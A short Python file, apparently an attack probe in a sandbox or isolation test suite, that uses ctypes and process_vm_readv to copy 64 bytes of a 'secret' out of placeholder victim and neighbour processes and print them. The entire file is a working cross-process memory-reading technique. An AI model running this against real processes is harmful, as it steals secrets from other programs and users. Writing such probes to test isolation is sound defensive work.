# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Copy a secret out of another process's memory with process_vm_readv(2)."""

# act: read
# needs: tracing

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(256)
local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 64)
remote = (ctypes.c_uint64 * 2)(VICTIM_ADDRESS, 64)
for pid, address in ((VICTIM_PID, VICTIM_ADDRESS), (NEIGHBOUR_PID, NEIGHBOUR_ADDRESS)):
    remote[0] = address
    print(libc.process_vm_readv(pid, local, 1, remote, 1, 0), buffer.raw)
